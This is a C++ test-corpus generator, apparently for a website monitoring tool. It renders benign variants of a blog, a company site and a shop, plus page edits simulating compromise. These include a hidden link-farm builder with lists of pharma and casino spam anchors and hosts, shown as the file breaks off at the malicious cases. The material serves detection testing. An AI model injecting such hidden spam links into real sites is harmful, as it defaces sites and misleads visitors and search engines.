#include "tests/corpus/corpus.h"

#include <algorithm>
#include <array>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <sstream>
#include <stdexcept>
#include <string_view>
#include <utility>

namespace sitewatch::corpus {

// ---------------------------------------------------------------------------------------
// The template files

struct Library {
    std::map<std::string, std::string, std::less<>> files;  // path under templates/ → text

    const std::string& file(std::string_view path) const {
        auto it = files.find(path);
        if (it == files.end())
            throw std::runtime_error("corpus: missing template file templates/" +
                                     std::string(path));
        return it->second;
    }

    // A data file: one row per line, fields separated by " | ", '#' lines are comments.
    std::vector<std::vector<std::string>> rows(std::string_view path) const {
        std::vector<std::vector<std::string>> out;
        std::istringstream in(file(path));
        std::string line;
        while (std::getline(in, line)) {
            if (line.empty() || line[0] == '#') continue;
            std::vector<std::string> fields;
            size_t pos = 0;
            while (true) {
                size_t bar = line.find(" | ", pos);
                fields.push_back(line.substr(pos, bar == std::string::npos ? bar : bar - pos));
                if (bar == std::string::npos) break;
                pos = bar + 3;
            }
            out.push_back(std::move(fields));
        }
        return out;
    }
};

namespace {

std::shared_ptr<const Library> read_library(const std::string& corpus_dir) {
    namespace fs = std::filesystem;
    const fs::path root = fs::path(corpus_dir) / "templates";
    if (!fs::is_directory(root))
        throw std::runtime_error("corpus: no templates directory at " + root.string());
    auto lib = std::make_shared<Library>();
    for (const auto& entry : fs::recursive_directory_iterator(root)) {
        if (!entry.is_regular_file()) continue;
        std::ifstream in(entry.path(), std::ios::binary);
        std::ostringstream text;
        text << in.rdbuf();
        lib->files[fs::relative(entry.path(), root).generic_string()] = text.str();
    }
    return lib;
}

// ---------------------------------------------------------------------------------------
// Deterministic randomness (splitmix64: the same numbers on every platform and library,
// unlike std::uniform_int_distribution)

class Rng {
public:
    explicit Rng(uint64_t seed) : state_(seed * 0x2545F4914F6CDD1Dull + 0x9E3779B97F4A7C15ull) {}

    uint64_t next() {
        uint64_t z = (state_ += 0x9E3779B97F4A7C15ull);
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
        return z ^ (z >> 31);
    }
    uint64_t below(uint64_t n) { return n == 0 ? 0 : next() % n; }
    int range(int lo, int hi) { return lo + static_cast<int>(below(uint64_t(hi - lo + 1))); }

    std::string chars(std::string_view alphabet, size_t n) {
        std::string out;
        out.reserve(n);
        for (size_t i = 0; i < n; ++i) out += alphabet[below(alphabet.size())];
        return out;
    }
    std::string hex(size_t n) { return chars("0123456789abcdef", n); }
    std::string digits(size_t n) {
        return std::to_string(range(1, 9)) + chars("0123456789", n - 1);
    }
    std::string b64(size_t n) {
        return chars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", n);
    }
    std::string b64url(size_t n) {
        return chars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", n);
    }

    template <typename T>
    void shuffle(std::vector<T>& v) {
        for (size_t i = v.size(); i > 1; --i) std::swap(v[i - 1], v[below(i)]);
    }
    // k distinct indices of [0, n), in random order.
    std::vector<size_t> pick(size_t n, size_t k) {
        std::vector<size_t> idx(n);
        for (size_t i = 0; i < n; ++i) idx[i] = i;
        shuffle(idx);
        idx.resize(std::min(k, n));
        return idx;
    }

private:
    uint64_t state_;
};

// ---------------------------------------------------------------------------------------
// Time: each load happens at a fixed instant derived from its seed

struct Civil {
    int year, month, day, hour, minute, second;
};

int64_t days_from_civil(int y, unsigned m, unsigned d) {  // H. Hinnant's algorithm
    y -= m <= 2;
    const int64_t era = (y >= 0 ? y : y - 399) / 400;
    const unsigned yoe = static_cast<unsigned>(y - era * 400);
    const unsigned doy = (153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1;
    const unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    return era * 146097 + static_cast<int64_t>(doe) - 719468;
}

Civil civil(int64_t unix_seconds) {
    int64_t z = unix_seconds / 86400;
    int64_t secs = unix_seconds % 86400;
    z += 719468;
    const int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    const unsigned doe = static_cast<unsigned>(z - era * 146097);
    const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    const unsigned mp = (5 * doy + 2) / 153;
    const unsigned d = doy - (153 * mp + 2) / 5 + 1;
    const unsigned m = mp < 10 ? mp + 3 : mp - 9;
    const int y = static_cast<int>(yoe) + static_cast<int>(era) * 400 + (m <= 2);
    return {y,
            static_cast<int>(m),
            static_cast<int>(d),
            static_cast<int>(secs / 3600),
            static_cast<int>(secs / 60 % 60),
            static_cast<int>(secs % 60)};
}

// The corpus' "now": 2026-11-24 08:00:00 UTC; load n happens about n × 5 minutes later.
const int64_t kBaseTime = days_from_civil(2026, 11, 24) * 86400 + 8 * 3600;

int64_t load_time(uint64_t slot, Rng& rng) {
    return kBaseTime + static_cast<int64_t>(slot % 1'000'000) * 300 + rng.range(0, 59);
}

std::string strf(const char* fmt, auto... args) {
    const int n = std::snprintf(nullptr, 0, fmt, args...);
    std::string out(static_cast<size_t>(std::max(n, 0)) + 1, '\0');
    std::snprintf(out.data(), out.size(), fmt, args...);
    out.resize(out.size() - 1);
    return out;
}

std::string iso_time(int64_t t) {
    Civil c = civil(t);
    return strf("%04d-%02d-%02dT%02d:%02d:%02d+00:00", c.year, c.month, c.day, c.hour, c.minute,
                c.second);
}

const char* const kMonths[] = {"January",   "February", "March",    "April",
                               "May",       "June",     "July",     "August",
                               "September", "October",  "November", "December"};

std::string long_time(int64_t t) {  // "November 24, 2026 at 8:03 am"
    Civil c = civil(t);
    int h12 = c.hour % 12 == 0 ? 12 : c.hour % 12;
    return strf("%s %d, %d at %d:%02d %s", kMonths[c.month - 1], c.day, c.year, h12, c.minute,
                c.hour < 12 ? "am" : "pm");
}

std::string ago(int64_t seconds) {  // WordPress human_time_diff() wording
    auto unit = [](int64_t n, const char* one, const char* many) {
        return std::to_string(n) + " " + (n == 1 ? one : many) + " ago";
    };
    if (seconds < 60) return "just now";
    if (seconds < 3600) return unit(seconds / 60, "minute", "minutes");
    if (seconds < 86400) return unit(seconds / 3600, "hour", "hours");
    if (seconds < 7 * 86400) return unit(seconds / 86400, "day", "days");
    if (seconds < 30 * 86400) return unit(seconds / (7 * 86400), "week", "weeks");
    return unit(seconds / (30 * 86400), "month", "months");
}

int iso_week(int64_t t) {  // good enough for Jetpack's e-YYYYWW.js name
    Civil c = civil(t);
    int64_t jan1 = days_from_civil(c.year, 1, 1);
    return static_cast<int>((t / 86400 - jan1) / 7) + 1;
}

// ---------------------------------------------------------------------------------------
// Placeholders: @@NAME@@ (capitals, digits, underscores) filled from a map

using Vars = std::map<std::string, std::string, std::less<>>;

bool is_key(std::string_view k) {
    return !k.empty() && std::all_of(k.begin(), k.end(), [](char ch) {
        return (ch >= 'A' && ch <= 'Z') || (ch >= '0' && ch <= '9') || ch == '_';
    });
}

std::string fill(std::string_view tmpl, const Vars& vars, std::string_view what) {
    std::string out;
    out.reserve(tmpl.size() + tmpl.size() / 2);
    size_t pos = 0;
    while (true) {
        size_t a = tmpl.find("@@", pos);
        if (a == std::string_view::npos) break;
        size_t b = tmpl.find("@@", a + 2);
        std::string_view key =
            b == std::string_view::npos ? std::string_view{} : tmpl.substr(a + 2, b - a - 2);
        if (!is_key(key)) throw std::runtime_error("corpus: stray @@ in " + std::string(what));
        auto it = vars.find(key);
        if (it == vars.end())
            throw std::runtime_error("corpus: " + std::string(what) + " names @@" +
                                     std::string(key) + "@@, which nothing fills");
        out.append(tmpl.substr(pos, a - pos));
        out.append(it->second);
        pos = b + 2;
    }
    out.append(tmpl.substr(pos));
    return out;
}

// ---------------------------------------------------------------------------------------
// One load's knobs: the benign generator's choices, and the few ways a broken deploy or a
// test pins them

struct LoadOptions {
    int variant = -1;  // A/B variant (0 or 1); -1 = random
    int ad = -1;       // which of the fixed ad hosts fills the slot; -1 = random
    int year_offset = 0;
    bool raw_templates = false;  // the template engine did not run on the lists
    bool new_item = false;       // a post, press release or product published since learning
    int64_t time_slot = -1;      // load n happens n × 5 min after the corpus' start; -1: from seed
};

uint64_t slot_of(uint64_t seed, const LoadOptions& o) {
    return o.time_slot >= 0 ? static_cast<uint64_t>(o.time_slot) : seed % 100'000;
}

int pick_or(int forced, Rng& rng, int n) {
    return forced >= 0 ? forced % n : static_cast<int>(rng.below(uint64_t(n)));
}

// Rotating ad slot: always one of these hosts, with per-load cache busters and ids.
std::string ad_url(int which, Rng& rng, std::string_view slot) {
    switch (which) {
        case 0:
            return "https://googleads.g.doubleclick.net/pagead/ads?client=ca-pub-4417380992161537"
                   "&amp;output=html&amp;slotname=" +
                   std::string(slot) + "&amp;adk=" + rng.digits(10) +
                   "&amp;correlator=" + rng.digits(16);
        case 1:
            return "https://tpc.googlesyndication.com/safeframe/1-0-40/html/container.html?n=0"
                   "&amp;cb=" +
                   rng.digits(12);
        default:
            return "https://ads.pubmatic.com/AdServer/js/pwtSync/load-cookie.html?pub=158931"
                   "&amp;slot=" +
                   std::string(slot) + "&amp;cb=" + rng.digits(12);
    }
}
constexpr int kAdHosts = 3;

// ---------------------------------------------------------------------------------------
// Blog: WordPress 6.4 with a custom theme

std::string render_blog(const Library& lib, uint64_t seed, const LoadOptions& o) {
    Rng rng(seed * 7919 + 11);
    const int64_t t = load_time(slot_of(seed, o), rng);
    Vars v;
    v["NONCE"] = rng.b64(22) + "==";
    v["WPNONCE"] = rng.hex(10);
    v["THEME_VER"] = "2.4." + std::to_string(rng.range(1000, 9999));
    v["ISO_TIME"] = iso_time(t);
    v["GENERATED"] = long_time(t);
    v["GEN_SECONDS"] = strf("0.%03d", rng.range(90, 640));
    v["UPDATED_AGO"] = ago(rng.range(60, 7200));
    v["READERS"] = std::to_string(rng.range(14, 160));
    {
        static const char* const sky[] = {"light snow", "overcast",     "fog",
                                          "clear",      "snow showers", "partly cloudy"};
        v["WEATHER"] = std::to_string(rng.range(18, 39)) + "&deg;F, " + sky[rng.below(6)] +
                       ", updated " + ago(rng.range(60, 3500));
    }
    v["STATS_WEEK"] = strf("%d%02d", civil(t).year, iso_week(t));
    v["YEAR"] = std::to_string(civil(t).year + o.year_offset);
    const int variant = pick_or(o.variant, rng, 2);
    v["HERO_HEADLINE"] = o.raw_templates ? "{{ hero.headline }}"
                         : variant == 0  ? "Find your next trail in the Cascades"
                                         : "Real trip reports from hikers who were just there";

    // Eight newest posts: fixed order, relative dates and comment counts change per load.
    std::string articles;
    if (o.raw_templates) {
        articles =
            "{% for post in posts %}\n<article id=\"post-{{ post.ID }}\" class=\"{{ post.class "
            "}}\">\n<header class=\"entry-header\">\n<h2 class=\"entry-title\"><a href=\"{{ "
            "post.link }}\" rel=\"bookmark\">{{ post.title }}</a></h2>\n<div "
            "class=\"entry-meta\">Posted <time datetime=\"{{ post.date('c') }}\">{{ post.date "
            "}}</time> by {{ post.author.name }}</div>\n</header>\n<div "
            "class=\"entry-summary\"><p>{{ post.preview.length(50) }}</p></div>\n<footer "
            "class=\"entry-footer\">{{ post.comment_count }} Comments</footer>\n</article>\n{% "
            "endfor %}";
    } else {
        auto rows = lib.rows("blog/articles.txt");
        if (o.new_item) {  // the newest post on top, the oldest drops off the front page
            rows.insert(rows.begin(), lib.rows("blog/articles_new.txt").front());
            rows.pop_back();
        }
        const std::string& frag = lib.file("blog/article.html");
        for (size_t i = 0; i < rows.size(); ++i) {
            const auto& r = rows[i];
            const int64_t published =
                kBaseTime - static_cast<int64_t>(i) * 6 * 86400 - 5 * 3600 - int64_t(i) * 2711;
            Vars a{{"POST_ID", r[0]},
                   {"SLUG", r[1]},
                   {"TITLE", r[2]},
                   {"CATEGORY", r[3]},
                   {"CATEGORY_SLUG", r[4]},
                   {"AUTHOR", r[5]},
                   {"AUTHOR_SLUG", r[6]},
                   {"IMAGE", r[7]},
                   {"EXCERPT", r[8]},
                   {"POST_DATE", iso_time(published)},
                   {"POST_AGO", ago(t - published)},
                   {"COMMENTS", std::to_string(3 + int(i) * 5 + rng.range(0, 6))}};
            articles += fill(frag, a, "blog/article.html");
        }
    }
    v["ARTICLES"] = articles;

    // Three of eight reader quotes.
    {
        const auto rows = lib.rows("blog/testimonials.txt");
        const std::string& frag = lib.file("blog/testimonial.html");
        std::string out;
        for (size_t i : rng.pick(rows.size(), 3))
            out += fill(frag, {{"QUOTE", rows[i][0]}, {"NAME", rows[i][1]}, {"PLACE", rows[i][2]}},
                        "blog/testimonial.html");
        v["TESTIMONIALS"] = out;
    }

    // Twenty news items; three slots rotate through a pool of nine.
    {
        const auto fixed = lib.rows("blog/news_fixed.txt");
        const auto rotating = lib.rows("blog/news_rotating.txt");
        std::vector<std::vector<std::string>> items(fixed.begin(), fixed.end());
        const auto chosen = rng.pick(rotating.size(), 3);
        const size_t slots[] = {1, 6, 11};
        for (size_t k = 0; k < 3; ++k)
            items.insert(items.begin() + static_cast<long>(slots[k]), rotating[chosen[k]]);
        std::string out;
        for (const auto& it : items)
            out += "<li><a href=\"" + it[1] + "\">" + it[0] + "</a></li>\n";
        v["NEWS"] = out;
    }

    // Five recent comments with relative times.
    {
        const auto rows = lib.rows("blog/comments.txt");
        std::vector<int64_t> ages;
        for (int i = 0; i < 5; ++i) ages.push_back(rng.range(120, 3 * 86400));
        std::sort(ages.begin(), ages.end());
        std::string out;
        const auto chosen = rng.pick(rows.size(), 5);
        for (size_t k = 0; k < chosen.size(); ++k) {
            const auto& r = rows[chosen[k]];
            out += "<li class=\"recentcomments\"><span class=\"comment-author-link\">" + r[0] +
                   "</span> on <a href=\"https://www.hollowbrooktrails.com/" + r[2] + "/#comment-" +
                   std::to_string(rng.range(18000, 19999)) + "\">" + r[1] +
                   "</a> <span class=\"comment-age\">" + ago(ages[k]) + "</span></li>\n";
        }
        v["RECENT_COMMENTS"] = out;
    }
    v["AD_URL"] = ad_url(pick_or(o.ad, rng, kAdHosts), rng, "8841029931");
    return fill(lib.file("blog/page.html"), v, "blog/page.html");
}

// ---------------------------------------------------------------------------------------
// Company: ASP.NET Web Forms

std::string render_company(const Library& lib, uint64_t seed, const LoadOptions& o) {
    Rng rng(seed * 6133 + 29);
    const int64_t t = load_time(slot_of(seed, o), rng);
    const Civil c = civil(t);
    Vars v;
    v["NONCE"] = rng.b64(22) + "==";
    // View state and event validation are serialised control state: base64 of a few KB
    // that differs on every response.
    v["VIEWSTATE"] = "/wEPDwUKMTY1NDU2MTA1Mg9kFgJmD2QWAgIDD2QW" +
                     rng.b64(static_cast<size_t>(rng.range(2600, 4200))) + "==";
    v["EVENTVALIDATION"] = "/wEdAAWx" + rng.b64(static_cast<size_t>(rng.range(180, 260))) + "=";
    v["REQ_TOKEN"] = rng.b64url(92);
    v["SESSION"] = rng.chars("abcdefghijklmnopqrstuvwxyz012345", 24);  // cookieless session id
    v["WEBRESOURCE_D"] = rng.b64url(86) + "2";
    v["WEBRESOURCE_T"] = "638" + rng.chars("0123456789", 15);
    v["ASSET_V"] = rng.b64url(43);
    const double price = 48.20 + double(rng.range(-250, 250)) / 100.0;
    const double change = double(rng.range(-140, 140)) / 100.0;
    v["TICKER_PRICE"] = strf("%.2f", price);
    v["TICKER_CHANGE"] = strf("%+.2f (%+.2f%%)", change, change / price * 100.0);
    v["TICKER_CLASS"] = change < 0 ? "down" : "up";
    const int et_hour = (c.hour + 19) % 24;  // US Eastern, standard time
    v["TICKER_TIME"] = strf("%d:%02d %s", et_hour % 12 == 0 ? 12 : et_hour % 12, c.minute,
                            et_hour < 12 ? "AM" : "PM");
    const int variant = pick_or(o.variant, rng, 2);
    v["HERO_HEADLINE"] = o.raw_templates ? "<%= Model.HeroHeadline %>"
                         : variant == 0
                             ? "Pumps and valves that run for decades"
                             : "Flow control engineered for water, food and chemical plants";
    {
        const auto rows = lib.rows("company/testimonials.txt");
        const std::string& frag = lib.file("company/testimonial.html");
        std::string out;
        for (size_t i : rng.pick(rows.size(), 3))
            out += fill(frag, {{"QUOTE", rows[i][0]}, {"NAME", rows[i][1]}, {"ROLE", rows[i][2]}},
                        "company/testimonial.html");
        v["TESTIMONIALS"] = out;
    }
    {
        const std::string& frag = lib.file("company/news_item.html");
        std::string out;
        if (o.raw_templates) {
            out =
                "<asp:Repeater ID=\"rptNews\" runat=\"server\"><ItemTemplate>\n<li "
                "class=\"news-item\"><time><%# Eval(\"Date\", \"{0:MMM dd, yyyy}\") %></time> "
                "<a href=\"<%# Eval(\"Url\") %>\"><%# Eval(\"Title\") %></a></li>\n"
                "</ItemTemplate></asp:Repeater>\n";
        } else {
            const auto fixed = lib.rows("company/news_fixed.txt");
            const auto rotating = lib.rows("company/news_rotating.txt");
            std::vector<std::vector<std::string>> items;
            for (size_t i : rng.pick(rotating.size(), 3)) items.push_back(rotating[i]);
            if (o.new_item) items.push_back(lib.rows("company/news_new.txt").front());
            items.insert(items.end(), fixed.begin(), fixed.end() - (o.new_item ? 1 : 0));
            for (const auto& it : items)
                out += fill(frag, {{"DATE", it[0]}, {"TITLE", it[1]}, {"URL", it[2]}},
                            "company/news_item.html");
        }
        v["NEWS"] = out;
    }
    v["OPEN_POSITIONS"] = std::to_string(rng.range(18, 31));
    {
        // A live webinar every four weeks, the next one on 2026-12-15 17:00 UTC.
        const int64_t period = 28 * 86400;
        const int64_t first = days_from_civil(2026, 12, 15) * 86400 + 17 * 3600;
        const int64_t until = (first - t) % period + ((first - t) % period <= 0 ? period : 0);
        v["WEBINAR_IN"] =
            until > 86400 ? strf("%d days %d hours", int(until / 86400), int(until % 86400 / 3600))
                          : strf("%d hours", int(until / 3600));
    }
    v["YEAR"] = std::to_string(c.year + o.year_offset);
    v["BUILD"] = "2026.11.3+" + rng.hex(7);
    v["NODE"] = strf("%02d", rng.range(1, 12));
    v["GENERATED"] = iso_time(t);
    v["ISO_TIME"] = iso_time(t);
    return fill(lib.file("company/page.html"), v, "company/page.html");
}

// ---------------------------------------------------------------------------------------
// Shop: Shopify storefront (Dawn theme)

std::string render_shop(const Library& lib, uint64_t seed, const LoadOptions& o) {
    Rng rng(seed * 4271 + 3);
    const int64_t t = load_time(slot_of(seed, o), rng);
    Vars v;
    v["ASSET_V"] = std::to_string(1694012210 + rng.range(0, 9000000));
    v["CHECKOUT_TOKEN"] = rng.hex(32);
    v["REQUEST_ID"] = rng.hex(8) + "-" + rng.hex(4) + "-4" + rng.hex(3) + "-a" + rng.hex(3) + "-" +
                      rng.hex(12) + "-" + std::to_string(rng.range(1000000000, 1999999999));
    v["SESSION_SHORT"] = rng.hex(12);
    v["SESSION"] = rng.hex(32);
    v["CART_COUNT"] = std::to_string(rng.range(0, 6));
    v["VIEWERS"] = std::to_string(rng.range(12, 84));
    {
        const Civil c = civil(t);  // same-day shipping cut-off: 20:00 UTC
        const int left = ((20 - c.hour + 24) % 24) * 60 - c.minute + 24 * 60;
        v["CUTOFF"] = strf("%d hours %d minutes", left % (24 * 60) / 60, left % 60);
    }
    v["REVIEW_COUNT"] = strf("2,%03d", 410 + static_cast<int>(seed % 500) + rng.range(0, 3));
    v["CSRF"] = rng.b64(86) + "==";
    v["BUILD"] = rng.hex(40);
    v["ISO_TIME"] = iso_time(t);
    v["YEAR"] = std::to_string(civil(t).year + o.year_offset);
    const int variant = pick_or(o.variant, rng, 2);
    v["ANNOUNCEMENT"] = variant == 0 ? "Free shipping on orders over $75"
                                     : "Free returns for 60 days, repairs for life";
    v["HERO_HEADLINE"] = o.raw_templates ? "{{ section.settings.heading | escape }}"
                         : variant == 0  ? "Goods for the campfire and the cabin"
                                         : "Built for the trail, made to be repaired";
    if (o.raw_templates) {
        v["PRODUCTS"] =
            "{% for product in collection.products limit: 24 %}\n<li class=\"grid__item\">\n<div "
            "class=\"card-wrapper product-card-wrapper\">\n<h3 class=\"card__heading h5\"><a "
            "href=\"{{ product.url }}\" class=\"full-unstyled-link\">{{ product.title "
            "}}</a></h3>\n<span class=\"caption-large light\">{{ product.vendor }}</span>\n<div "
            "class=\"price\"><span class=\"price-item price-item--regular\">{{ product.price | "
            "money_with_currency }}</span></div>\n</div>\n</li>\n{% endfor %}";
    } else {
        auto rows = lib.rows("shop/products.txt");
        if (o.new_item) rows.back() = lib.rows("shop/products_new.txt").front();
        std::vector<size_t> order(rows.size());
        for (size_t i = 0; i < order.size(); ++i) order[i] = i;
        rng.shuffle(order);  // the grid is sorted by "best selling" that changes per load
        const std::string& frag = lib.file("shop/product.html");
        std::string out;
        for (size_t i : order) {
            const auto& r = rows[i];
            const double price = std::stod(r[4]);
            const bool on_sale = i == 2 || i == 9 || i == 17;
            std::string stock;
            switch (rng.below(4)) {
                case 0:
                    stock = "In stock, ready to ship";
                    break;
                case 1:
                    stock = "Only " + std::to_string(rng.range(2, 9)) + " left";
                    break;
                case 2:
                    stock = std::to_string(rng.range(3, 40)) + " sold in the last 24 hours";
                    break;
                default:
                    stock = "Ships in 2&ndash;3 business days";
                    break;
            }
            Vars p{{"PRODUCT_ID", r[0]},
                   {"HANDLE", r[1]},
                   {"TITLE", r[2]},
                   {"VENDOR", r[3]},
                   {"PRICE", strf("$%.2f USD", price)},
                   {"IMAGE", r[5]},
                   {"IMG_V", std::to_string(1690000000 + std::stoll(r[0]) % 9999991)},
                   {"RATING", r[6]},
                   {"RATING_INT", std::to_string(static_cast<int>(std::stod(r[6]) + 0.5))},
                   {"PRICE_CLASS", on_sale ? "price--on-sale" : ""},
                   {"SALE", on_sale ? strf("<div class=\"price__sale\"><span class=\"visually-"
                                           "hidden visually-hidden--inline\">Sale "
                                           "price</span><span class=\"price-item "
                                           "price-item--sale price-item--last\">$%.2f "
                                           "USD</span></div>",
                                           price * 0.8)
                                    : ""},
                   {"STOCK_NOTE", stock}};
            out += fill(frag, p, "shop/product.html");
        }
        v["PRODUCTS"] = out;
    }
    {
        const auto rows = lib.rows("shop/reviews.txt");
        const std::string& frag = lib.file("shop/review.html");
        std::string out;
        for (size_t i : rng.pick(rows.size(), 3))
            out += fill(frag,
                        {{"QUOTE", rows[i][0]},
                         {"NAME", rows[i][1]},
                         {"PRODUCT", rows[i][2]},
                         {"AGO", ago(rng.range(3600, 40 * 86400))}},
                        "shop/review.html");
        v["TESTIMONIALS"] = out;
    }
    v["AD_URL"] = ad_url(pick_or(o.ad, rng, kAdHosts), rng, "2201947730");
    return fill(lib.file("shop/page.html"), v, "shop/page.html");
}

// ---------------------------------------------------------------------------------------
// The sites

struct SiteDef {
    const char* name;
    const char* url;
    const char* host;
    const char* site_name;
    const char* account;  // hosting account / deploy user, in error paths
    std::string (*render)(const Library&, uint64_t, const LoadOptions&);
    const char* form_action;    // the action of the page's own form, as written
    const char* new_item_case;  // the benign case that publishes something new
    uint64_t seed_base;
};

const SiteDef kSites[] = {
    {"blog", "https://www.hollowbrooktrails.com/", "www.hollowbrooktrails.com",
     "Hollowbrook Trail Journal", "hollowbrook", render_blog,
     "https://www.hollowbrooktrails.com/wp-admin/admin-post.php", "new-post-published", 0},
    {"company", "https://www.meridianfluid.com/", "www.meridianfluid.com", "Meridian Fluid Systems",
     "meridian", render_company, "./", "new-press-release", 1'000'000},
    {"shop", "https://shop.copperandpine.com/", "shop.copperandpine.com",
     "Copper &amp; Pine Outfitters", "copperpine", render_shop, "/contact#ContactFooter",
     "new-product-in-grid", 2'000'000},
};

const SiteDef& site_def(std::string_view name) {
    for (const auto& s : kSites)
        if (name == s.name) return s;
    throw std::runtime_error("corpus: unknown site " + std::string(name));
}

constexpr int kLearningLoads = 10;
constexpr int kRandomBenignLoads = 42;

// ---------------------------------------------------------------------------------------
// Editing a rendered page the way a broken deploy or an attacker does

void replace_once(std::string& s, std::string_view from, std::string_view to) {
    size_t p = s.find(from);
    if (p == std::string::npos)
        throw std::runtime_error("corpus: cannot find '" + std::string(from) + "' to replace");
    s.replace(p, from.size(), to);
}

void insert_before_last(std::string& s, std::string_view marker, std::string_view text) {
    size_t p = s.rfind(marker);
    if (p == std::string::npos)
        throw std::runtime_error("corpus: no '" + std::string(marker) + "' in page");
    s.insert(p, text);
}

// After the opening tag that starts with `open` ("<head", "<body").
void insert_after_open(std::string& s, std::string_view open, std::string_view text) {
    size_t p = s.find(open);
    if (p == std::string::npos) throw std::runtime_error("corpus: no " + std::string(open));
    size_t end = s.find('>', p);
    s.insert(end + 1, text);
}

// Replaces what is between the first <tag ...> and its </tag>.
void replace_inner(std::string& s, std::string_view tag, std::string_view text) {
    size_t open = s.find("<" + std::string(tag));
    if (open == std::string::npos) throw std::runtime_error("corpus: no <" + std::string(tag));
    size_t start = s.find('>', open) + 1;
    size_t end = s.find("</" + std::string(tag) + ">", start);
    s.replace(start, end - start, text);
}

std::string inner(const std::string& s, std::string_view tag) {
    size_t open = s.find("<" + std::string(tag));
    size_t start = s.find('>', open) + 1;
    size_t end = s.find("</" + std::string(tag) + ">", start);
    return s.substr(start, end - start);
}

std::string trim(std::string s) {
    auto ws = [](char ch) { return ch == ' ' || ch == '\n' || ch == '\r' || ch == '\t'; };
    while (!s.empty() && ws(s.back())) s.pop_back();
    size_t i = 0;
    while (i < s.size() && ws(s[i])) ++i;
    return s.substr(i);
}

// A hidden block of 20 outbound spam links, each to its own host.
std::string link_farm(std::string_view opening, const std::vector<std::string>& anchors,
                      const std::vector<std::string>& hosts) {
    std::string out = "\n" + std::string(opening) + "\n";
    for (size_t i = 0; i < anchors.size(); ++i)
        out += "<a href=\"https://" + hosts[i % hosts.size()] + "/\">" + anchors[i] + "</a>\n";
    out += "</div>\n";
    return out;
}

const std::vector<std::string> kPharmaAnchors = {"buy viagra online",
                                                 "cheap cialis",
                                                 "generic levitra",
                                                 "order tramadol without prescription",
                                                 "buy xanax online",
                                                 "cialis 20mg price",
                                                 "viagra without a doctor",
                                                 "discount phentermine",
                                                 "buy ambien online",
                                                 "kamagra oral jelly",
                                                 "cheap propecia",
                                                 "order valium online",
                                                 "viagra soft tabs",
                                                 "buy cialis online",
                                                 "levitra 10mg",
                                                 "generic viagra 100mg",
                                                 "tramadol 50mg overnight",
                                                 "xanax bars for sale",
                                                 "buy generic cialis",
                                                 "cheapest viagra prices"};
const std::vector<std::string> kPharmaHosts = {
    "rx-pharmacy-direct.top",  "bluepill-discount.xyz",  "med-express24.shop",
    "generic-rx-store.online", "pillsale-now.site",      "cheap-meds-uk.top",
    "pharma-outlet.click",     "rxdeals-online.info",    "canadian-rx-shop.top",
    "trusted-tabs.store",      "erectile-help.online",   "mens-health-rx.xyz",
    "sleep-meds-direct.top",   "anxiety-rx.site",        "tabs4less.shop",
    "onlinepharm-24.top",      "rx-bestprice-store.top", "meds-no-script.xyz",
    "pharm-world-deal.online", "quickrx-ship.click"};
const std::vector<std::string> kCasinoAnchors = {
    "best online casino",    "online casino real money",
    "free spins no deposit", "no deposit bonus codes",
    "slot gacor hari ini",   "situs slot terpercaya",
    "live casino bonus",     "bandar togel online",
    "real money slots",      "rtp slot live",
    "crypto casino",         "casino bonus 2026",
    "judi bola online",      "online poker real money",
    "agen slot gacor",       "roulette online",
    "blackjack real money",  "maxwin slot",
    "sports betting bonus",  "fast payout casino"};
const std::vector<std::string> kCasinoHosts = {
    "spinroyal-casino.bet", "luckyslot88.vip",     "gacor-maxwin.xyz",    "jackpotcity-win.top",
    "togel-online4d.net",   "casino-bonus24.club", "slotterpercaya.site", "betwin365.icu",
    "royalspin-vip.online", "megatoto.vip",        "gilatoto.vip",        "pokerstars-bonus.top",
    "roulette-live.bet",    "blackjack-now.club",  "cryptocasino-x.io",   "fastpay-casino.top",
    "sportsbet-bonus.xyz",  "slot-rtp-live.site",  "agen-gacor.online",   "judibola-88.net"};

}  // namespace

// ---------------------------------------------------------------------------------------

std::string label(const CorpusPage& page) {
    return page.expected ? to_string(*page.expected) : "benign";
}

CorpusPage render_benign(const CorpusSite& site, uint64_t seed) {
    if (!site.library) throw std::runtime_error("corpus: site has no template library");
    const SiteDef& def = site_def(site.name);
    CorpusPage page;
    page.name = "benign/load-" + std::to_string(seed);
    page.html = def.render(*site.library, def.seed_base + 50'000 + seed,
                           {.time_slot = static_cast<int64_t>(seed)});
    return page;
}

namespace {

std::vector<CorpusPage> benign_cases(const Library& lib, const SiteDef& def) {
    std::vector<CorpusPage> out;
    auto add = [&](std::string name, std::string html) {
        CorpusPage p;
        p.name = "benign/" + std::move(name);
        p.html = std::move(html);
        out.push_back(std::move(p));
        return &out.back();
    };
    uint64_t seed = def.seed_base + 1000;
    for (int i = 0; i < kRandomBenignLoads; ++i)
        add(strf("load-%02d", i + 1), def.render(lib, seed++, {}));
    add("ab-variant-a-first-ad-host", def.render(lib, seed++, {.variant = 0, .ad = 0}));
    add("ab-variant-b-last-ad-host", def.render(lib, seed++, {.variant = 1, .ad = kAdHosts - 1}));
    add("copyright-year-rolled-over", def.render(lib, seed++, {.year_offset = 1}));
    add(def.new_item_case, def.render(lib, seed++, {.new_item = true}));
    add("content-type-without-charset", def.render(lib, seed++, {}))->content_type = "text/html";
    add("content-type-upper-case", def.render(lib, seed++, {}))->content_type =
        "text/html; charset=UTF-8";
    return out;
}

std::vector<CorpusPage> malicious_cases(const Library& lib, const SiteDef& def) {
    std::vector<CorpusPage> out;
    uint64_t seed = def.seed_base + 5000;
    auto fresh = [&](LoadOptions o = {}) { return def.render(lib, seed++, o); };
    Rng rng(def.seed_base + 77);
    const Vars page_vars{
        {"HOST", def.host},
        {"SITE_NAME", def.site_name},
        {"ACCOUNT", def.account},
        {"URL", def.url},
        {"CF_TIME", "2026-11-24 09:41:07"},
        {"RAY_ID", rng.hex(16)},
        {"TOKEN", rng.hex(32)},
